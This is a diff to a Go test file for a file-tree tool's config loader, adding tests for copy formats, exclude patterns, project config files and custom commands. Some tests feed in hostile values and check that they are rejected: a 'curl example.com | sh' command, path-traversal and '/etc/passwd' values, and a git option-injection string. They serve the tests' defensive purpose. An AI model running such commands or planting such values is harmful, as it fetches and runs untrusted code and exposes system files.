@@ -1,9 +1,12 @@
 package config
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"testing"
+
+	"github.com/almonk/bontree/tree"
 )
 
 func TestDefaultConfig(t *testing.T) {
@@ -19,9 +22,15 @@ func TestDefaultConfig(t *testing.T) {
 	if cfg.ActionFor("?") != ActionHelp {
 		t.Errorf("expected ?=help, got %q", cfg.ActionFor("?"))
 	}
+	if cfg.ActionFor("p") != ActionTogglePreview {
+		t.Errorf("expected p=toggle_preview, got %q", cfg.ActionFor("p"))
+	}
 	if cfg.ShowHidden {
 		t.Error("expected show_hidden=false by default")
 	}
+	if !cfg.RespectGitignore || !cfg.Mouse {
+		t.Error("expected gitignore and mouse to be on by default")
+	}
 }
 
 func TestLoadMissing(t *testing.T) {
@@ -223,3 +232,328 @@ keybind = q=quit
 		t.Error("expected q=quit")
 	}
 }
+
+func TestLoadBase(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+
+	content := `base = origin/main
+`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if cfg.BaseRef != "origin/main" {
+		t.Errorf("expected base=origin/main, got %q", cfg.BaseRef)
+	}
+
+	// Anything git could take for an option is rejected
+	if err := os.WriteFile(path, []byte("base = --output=/tmp/x\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFrom(path); err == nil {
+		t.Error("expected error for base starting with -")
+	}
+}
+
+func TestLoadCopySeparator(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+
+	if err := os.WriteFile(path, []byte("copy-separator = space\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.CopySeparator != " " {
+		t.Errorf("expected space separator, got %q", cfg.CopySeparator)
+	}
+
+	if err := os.WriteFile(path, []byte("copy-separator = comma\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFrom(path); err == nil {
+		t.Error("expected error for invalid copy-separator")
+	}
+}
+
+func TestLoadCopyFormats(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+
+	content := `keybind = @=copy:claude
+copy-format = claude=@{path}\n
+copy-format = path={path}:{line}
+copy-format = link=
+`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	if f, ok := cfg.CopyFormat("claude"); !ok || f.Template != "@{path}\n" {
+		t.Errorf("expected claude=@{path}\\n, got %q", f.Template)
+	}
+	if f, _ := cfg.CopyFormat("path"); f.Template != "{path}:{line}" {
+		t.Errorf("expected path format to be replaced, got %q", f.Template)
+	}
+	if _, ok := cfg.CopyFormat("link"); ok {
+		t.Error("expected link format to be removed")
+	}
+	if name, ok := cfg.ActionFor("@").CopyFormatName(); !ok || name != "claude" {
+		t.Errorf("expected @=copy:claude, got %q", cfg.ActionFor("@"))
+	}
+}
+
+func TestLoadUnknownCopyFormat(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+
+	if err := os.WriteFile(path, []byte("keybind = @=copy:nope\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFrom(path); err == nil {
+		t.Error("expected error for keybind using an unknown copy format")
+	}
+}
+
+func TestLoadSocket(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+
+	if err := os.WriteFile(path, []byte("socket = /tmp/bontree.sock\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.Socket != "/tmp/bontree.sock" {
+		t.Errorf("expected socket=/tmp/bontree.sock, got %q", cfg.Socket)
+	}
+}
+
+func TestLoadStartupSettings(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+
+	content := `gitignore = false
+mouse = false
+inline = true
+expand-depth = 2
+`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if cfg.RespectGitignore {
+		t.Error("expected gitignore=false")
+	}
+	if cfg.Mouse {
+		t.Error("expected mouse=false")
+	}
+	if !cfg.Inline {
+		t.Error("expected inline=true")
+	}
+	if cfg.ExpandDepth != 2 {
+		t.Errorf("expected expand-depth=2, got %d", cfg.ExpandDepth)
+	}
+
+	if err := os.WriteFile(path, []byte("expand-depth = -1\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFrom(path); err == nil {
+		t.Error("expected error for negative expand-depth")
+	}
+}
+
+func TestLoadExcludeInclude(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+	content := `exclude = target/, *.pb.go
+exclude = .venv
+include = .env.example
+`
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := tree.Patterns("", ".git", "node_modules", "__pycache__", "target/", "*.pb.go", ".venv")
+	if fmt.Sprint(cfg.Exclude) != fmt.Sprint(want) {
+		t.Errorf("Exclude = %q, want %q", cfg.Exclude, want)
+	}
+	if len(cfg.Include) != 1 || cfg.Include[0] != (tree.Pattern{Pattern: ".env.example"}) {
+		t.Errorf("Include = %q, want [.env.example]", cfg.Include)
+	}
+
+	// An empty value clears the defaults too
+	if err := os.WriteFile(path, []byte("exclude =\nexclude = dist\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if cfg, err = LoadFrom(path); err != nil {
+		t.Fatal(err)
+	}
+	if len(cfg.Exclude) != 1 || cfg.Exclude[0] != (tree.Pattern{Pattern: "dist"}) {
+		t.Errorf("Exclude = %q, want [dist]", cfg.Exclude)
+	}
+
+	if err := os.WriteFile(path, []byte("exclude = foo[\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := LoadFrom(path); err == nil {
+		t.Error("expected an error for a malformed pattern")
+	}
+}
+
+func TestLoadProject(t *testing.T) {
+	dir := t.TempDir()
+	user := filepath.Join(dir, "user")
+	project := filepath.Join(dir, "repo")
+	sub := filepath.Join(project, "src", "pkg")
+	if err := os.MkdirAll(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	files := map[string]string{
+		user:                               "theme = Dracula\nexclude = dist/\nkeybind = x=quit\n",
+		filepath.Join(project, ".bontree"): "theme = Nord\nexclude = gen/\nkeybind = z=expand_all\nconfig-file = shared/extra\n",
+		filepath.Join(project, "shared", "extra"): "include = .env.example\n",
+	}
+	for path, content := range files {
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	cfg, err := LoadFrom(user)
+	if err != nil {
+		t.Fatal(err)
+	}
+	found, err := LoadProject(cfg, sub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if found != filepath.Join(project, ".bontree") {
+		t.Errorf("LoadProject found %q", found)
+	}
+	if cfg.Theme != "Nord" {
+		t.Errorf("Theme = %q, want the project's Nord", cfg.Theme)
+	}
+	// The project's patterns are relative to the file defining them
+	want := append(tree.Patterns("", ".git", "node_modules", "__pycache__", "dist/"), tree.Patterns(project, "gen/")...)
+	if fmt.Sprint(cfg.Exclude) != fmt.Sprint(want) {
+		t.Errorf("Exclude = %q, want the project's patterns appended", cfg.Exclude)
+	}
+	if cfg.Keybinds["x"] != ActionQuit || cfg.Keybinds["z"] != ActionExpandAll {
+		t.Error("expected user and project keybinds to merge")
+	}
+	if len(cfg.Include) != 1 || cfg.Include[0] != (tree.Pattern{Pattern: ".env.example", Dir: filepath.Join(project, "shared")}) {
+		t.Errorf("Include = %q, want the included file's pattern", cfg.Include)
+	}
+
+	if found, err := LoadProject(DefaultConfig(), dir); err != nil || found != "" {
+		t.Errorf("LoadProject outside the project = %q, %v", found, err)
+	}
+}
+
+func TestLoadProjectUserOnly(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, ".bontree")
+	extra := filepath.Join(dir, "extra")
+	if err := os.WriteFile(extra, []byte("command = y=make\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	for _, bad := range []string{
+		"command = x:interactive=curl example.com | sh\n",
+		"keybind = j=run:x\n",
+		"socket = ../../notes.txt\n",
+		"base = main\n",
+		"theme = ../../notes.txt\n",
+		"theme = /etc/passwd\n",
+		"config-file = extra\n", // included files are restricted too
+	} {
+		if err := os.WriteFile(path, []byte(bad), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		cfg := DefaultConfig()
+		cfg.Commands = []Command{{Name: "x", Mode: CommandPane, Run: "true"}}
+		if _, err := LoadProject(cfg, dir); err == nil {
+			t.Errorf("expected an error for %q in a project file", bad)
+		}
+	}
+}
+
+func TestLoadConfigFileLoop(t *testing.T) {
+	dir := t.TempDir()
+	a := filepath.Join(dir, "a")
+	b := filepath.Join(dir, "b")
+	os.WriteFile(a, []byte("config-file = b\n"), 0o644)
+	os.WriteFile(b, []byte("config-file = a\n"), 0o644)
+	if _, err := LoadFrom(a); err == nil {
+		t.Error("expected an error for a config-file loop")
+	}
+
+	os.WriteFile(b, []byte("config-file = missing\n"), 0o644)
+	if _, err := LoadFrom(a); err == nil {
+		t.Error("expected an error for a missing config-file")
+	}
+}
+
+func TestLoadCommands(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, "config")
+	content := `command = lint=golangci-lint run {dir}/...
+command = fmt:flash=gofmt -w {abs}
+command = shell:interactive=$SHELL
+command = tmp=echo hi
+command = tmp=
+keybind = L=run:lint
+`
+	if err := os.WriteFile(path, []byte(content), 0644); err != nil {
+		t.Fatal(err)
+	}
+	cfg, err := LoadFrom(path)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	want := []Command{
+		{Name: "lint", Mode: CommandPane, Run: "golangci-lint run {dir}/..."},
+		{Name: "fmt", Mode: CommandFlash, Run: "gofmt -w {abs}"},
+		{Name: "shell", Mode: CommandInteractive, Run: "$SHELL"},
+	}
+	if fmt.Sprint(cfg.Commands) != fmt.Sprint(want) {
+		t.Errorf("Commands = %v, want %v", cfg.Commands, want)
+	}
+	if cfg.Keybinds["L"] != CommandAction("lint") {
+		t.Errorf("expected L bound to run:lint, got %q", cfg.Keybinds["L"])
+	}
+
+	for _, bad := range []string{"command = x:later=true\n", "keybind = L=run:nope\n", "command = =true\n"} {
+		if err := os.WriteFile(path, []byte(bad), 0644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := LoadFrom(path); err == nil {
+			t.Errorf("expected error for %q", bad)
+		}
+	}
+}